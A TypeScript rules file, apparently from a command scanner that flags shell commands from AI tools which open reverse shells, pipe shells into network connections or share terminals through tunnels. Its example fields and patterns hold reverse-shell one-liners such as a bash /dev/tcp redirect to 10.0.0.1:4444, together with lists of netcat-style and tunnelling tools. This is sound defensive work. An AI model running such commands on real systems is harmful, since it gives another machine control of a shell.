// Rules about giving control of a shell to others.

import { INERT } from '../../carriers/carried.ts'
import { callsThat } from '../../carriers/foreign-calls.ts'
import { unwrapLayer } from '../../carriers/unwrap.ts'
import { interpreterName, SHELLS } from '../../carriers/wrappers.ts'
import { asks, PROMPTS } from '../../line/dialogue.ts'
import {
  type Arg,
  after,
  matching,
  NO_OUTPUT,
  redirectedTo,
  says,
  TAINT,
  textsOf,
  UNKNOWN,
} from '../../model.ts'
import { inputCode } from '../../writes/positions.ts'
import { only, type Rules, tools } from '../kit.ts'

/** Code that connects to the network, and code that runs what comes from there: together they give control of a shell to another machine. */
const CONNECTS = new RegExp(callsThat('connects'), 'i')
const RUNS_COMMANDS = new RegExp(callsThat('hands'))
/** netcat told to hand a shell to the other end, in code of another language. */
const NETCAT_SHELL = /\bn(?:et)?c(?:at)?\b[^;|\n]{0,200} -[a-z]{0,8}[ec] {0,8}(?:\/bin\/)?(?:ba|z|da|k)?sh\b/
/** The same as calls: a name of a file, a package, a test or a table has only words of them. */
const CALLS_CONNECT = new RegExp(callsThat('network'), 'i')
const CALLS_SHELL = new RegExp(
  String.raw`\bdup2\s?\(|\bpty\.spawn\s?\(|${callsThat('shell')}\s{0,4}[("'[{\x60][\s("'[{]{0,8}(?:/(?:usr/)?bin/)?(?:ba|z|da|k)?sh\b`,
)

/** Programs that hand a program, which they are told, to the other end of a connection. */
const LISTENERS = new Set(
  tools(
    `nc.exe ncat.exe rcat rustcat pwncat pwncat-cs sbd cryptcat powercat dbd netcat.traditional nc.traditional nc.openbsd gsocket gs-netcat
    revsh tcpserver tcpclient sslserver sslclient tcpsvd udpsvd sslsvd s6-tcpserver s6-tcpclient s6-tlsserver s6-tlsclient faucet hose
    websocat websocketd systemd-socket-activate telnetd in.telnetd inetd xinetd stunnel stunnel3 stunnel4`,
  ),
)
/** The program that one of them is told to hand over. */
const HANDED =
  /^(?:(?:cmd|exec|sh-c|SYSTEM|EXEC):)?(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|a)?sh(?:\s+-\S+)*$|^(?:"|')?\/bin\/|^cmd(?:\.exe)?$/i
/** The same in the settings that such a program reads. */
const HANDED_IN_SETTINGS = /\bexec\s*=\s*\/\S*sh\b|\bnowait\s.*\/(?:ba|z|da|k|a)?sh\b/
/** Addresses of socat that lead to another machine. */
const ELSEWHERE = /^(?:TCP|UDP|OPENSSL|SSL|DTLS|SCTP|DCCP|VSOCK|PROXY|SOCKS|SOCKET|IP[46]?[-:])/i

const SOCKET = /^\/dev\/(?:tcp|udp)\//

export const SHELL_RULES: Rules = [
  {
    id: 'tool-shell',
    level: 'high',
    caller: 'tool',
    why: 'Opens a shell or another prompt for an AI tool, and nobody judges what it types there.',
    // The names in PROMPTS make these tools ones that a rule knows, which are not passed early; `*` finds names with a version, too.
    finds: `
      !~fed
      * ~asks !-v*
      ${PROMPTS.join('|')} ~asks !-v*
      machinectl shell .
      ${[...SHELLS].join('|')}|sudo|doas|su|ssh|run0|pkexec ~opens !-T|-h|--help|-V|--version`,
    named: {
      fed: (_arg, { input }) => input !== NO_OUTPUT,
      asks: (_arg, { name, args }) => asks(name, textsOf(args)),
      opens: (_arg, { name, args, span }) => {
        const { runsInput, scripts } = unwrapLayer([{ text: name, span, taint: 0 }, ...args], NO_OUTPUT)
        return runsInput && scripts.length === 0
      },
    },
    example: 'python3 -i',
  },
  {
    id: 'reverse-shell',
    level: 'critical',
    why: 'Gives another machine control of a shell on this one.',
    tools: ['*', ...LISTENERS],
    when: (c) => {
      if (SHELLS.has(c.name)) {
        // The descriptors of a coprocess are known only when it runs: `sh <&${COPROC[0]} >&${COPROC[1]}`.
        const unseen = c.redirections.filter(
          (r) => /^[<>]&$/.test(r.operator) && r.target.text.includes(UNKNOWN),
        )
        return c.redirections
          .filter((r) => SOCKET.test(r.target.text) || (unseen.length > 1 && unseen.includes(r)))
          .map((r) => r.target)
      }
      // zsh names the two ends of a coprocess `p`.
      const tied = c.scope.shell === 'zsh' ? matching(redirectedTo(c, /./), /^p$/) : []
      if (/^(?:nc|ncat|netcat)(?:\.\w+)?$/.test(c.name)) {
        if (tied.length > 1) return tied
        return only(
          says(c, /sh\b|bash|cmd|exec|perl|python/),
          matching(c.args, /^(?:-[a-zA-Z]*e|-c|--exec|--sh-exec|--lua-exec)$|^--(?:sh-)?exec=/),
        )
      }
      if (c.name === 'socat')
        return only(says(c, ELSEWHERE), matching(c.args, /^(?:EXEC|SYSTEM|SHELL)(?::|$)/i))
      if (LISTENERS.has(c.name)) {
        const told = matching(c.args, HANDED)
        return told.length > 0 ? told : HANDED_IN_SETTINGS.test(c.input.text ?? '')
      }
      if (c.name === 'socket') return only(says(c, /^-[a-z]*p/), matching(c.args, /sh\b/))
      if (c.name === 'xterm') return matching(after(c.args, /^-display$/), /^(?!localhost)[\w.-]+:\d/)
      // Code in the words of any tool counts; a tool that only shows or keeps its words is left out.
      if (INERT.has(c.name) || KEEPS_MESSAGES.has(c.name)) return undefined
      const reads = isInterpreter(c.name)
      const isGiven = c.scope.written?.size || c.input.text !== undefined
      const runsInput = reads || (COMPILES.has(c.name) && c.args.length > 0 && isGiven)
      const found = c.args.filter(({ text }) => isCode(text) && (reads ? handsShell(text) : callsShell(text)))
      // A program may be given in several words: `-e A -e B`.
      const words = reads && found.length === 0 ? matching(c.args, /[\s(.]/) : []
      return [
        ...found,
        ...(words.length > 1 && handsShell(textsOf(words).join('\n')) ? words : []),
        ...(runsInput ? inputCode(c).filter(({ text }) => isCode(text) && handsShell(text)) : []),
      ]
    },
    example: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  },
  {
    id: 'socket-open',
    level: 'high',
    why: 'Connects this shell to the network, as a reverse shell does.',
    finds: 'exec opens<socket>',
    named: { socket: SOCKET },
    example: 'exec 5<>/dev/tcp/10.0.0.1/80',
  },
  {
    id: 'socket-redirect',
    level: 'moderate',
    why: 'Opens a network connection through a redirection.',
    finds: '* redirects<socket>!<shells>',
    named: { socket: SOCKET, shells: (_arg, { name }) => SHELLS.has(name) },
    example: 'echo x > /dev/tcp/h/22',
  },
  {
    id: 'shell-piped',
    level: 'critical',
    why: 'Lets the other end of the connection type into a shell on this machine.',
    tools: [...SHELLS, ...tools('nc ncat netcat telnet openssl socat')],
    when: (c) => {
      const has = (kind: number) => (c.input.taint & kind) !== 0
      if (!SHELLS.has(c.name))
        return has(TAINT.shell) && (c.name !== 'openssl' || c.args[0]?.text === 's_client')
      const tied = redirectedTo(c, /./).filter(({ text }) => c.scope.sockets?.has(text))
      return tied.length > 0 ? tied : has(TAINT.dialogue) && c.args.every((arg) => /^-[isl]*$/.test(arg.text))
    },
    example: 'sh -i | nc host 1',
  },
  {
    id: 'share-terminal',
    level: 'moderate',
    given: 'high',
    why: 'Lets others see or use this terminal, or reach this machine through another.',
    finds: `
      ssh|autossh words<reverse>
      _ -D|-L=<open>
      socat words<listens> words<elsewhere>
      sshd|dropbear words<set> !-t|-T|-G|-V|-h
      code tunnel
      devtunnel host
      tailscale funnel
      cloudflared tunnel run
      cloudflared tunnel --url
      ttyd|gotty|tmate|sshx|wetty|ngrok|localtunnel|lt|localtonet|bore|frpc|gost|zrok|rathole|playit|pagekite|gs-netcat|telnetd !--help|--version|-h|-v`,
    named: {
      // Or a forwarded port that other machines can reach.
      reverse: /^-[A-Za-z]*(?:R|[DL](?:0\.0\.0\.0|\*|\[::\]|):\d)/,
      listens: /^(?:TCP4?|UDP|OPENSSL)-L(?:ISTEN)?:/i,
      elsewhere: /^(?:TCP4?|UDP|OPENSSL|SOCKS\w*):(?!localhost|127\.)/i,
      open: /^(?:0\.0\.0\.0|\*|\[::\]|):\d/,
      set: /^-[pofDFE]/,
    },
    example: 'ttyd bash',
  },
]

/** Tools that run the source of a file, which the line may have written before. */
const COMPILES = new Set(tools('go jshell java ghc deno bun gcc cc clang tcc'))
/** Tools of version control: their words are names and messages. */
const KEEPS_MESSAGES = new Set(tools('hg svn jj fossil bzr cvs'))

/** Code that connects and runs a shell is longer. */
const LEAST_CODE = 24
/** Whether the text is more than a name or a path. */
const isCode = (text: string): boolean => text.length >= LEAST_CODE && /[\s("'`;{]/.test(text)
/** Whether the text has code that hands a shell to another machine, for a tool that may run it or not. */
export const callsShell = (text: string): boolean =>
  NETCAT_SHELL.test(text) || (CALLS_CONNECT.test(text) && CALLS_SHELL.test(text))
/** The same for code that an interpreter runs, where less proves it. */
const handsShell = (text: string): boolean =>
  NETCAT_SHELL.test(text) || (CONNECTS.test(text) && RUNS_COMMANDS.test(text))
/** Whether a word may be such code; a quick look that spares most commands the rule. */
export const mayConnect = ({ text }: Arg): boolean =>
  text.length >= LEAST_CODE && /connect|sock|tcp|\bn(?:et)?c(?:at)? |net[.:"'(]/i.test(text)

const isInterpreter = (name: string): boolean =>
  interpreterName(name) !== undefined || /^(?:[gmn]?awk|emacs|sbcl)$/.test(name)
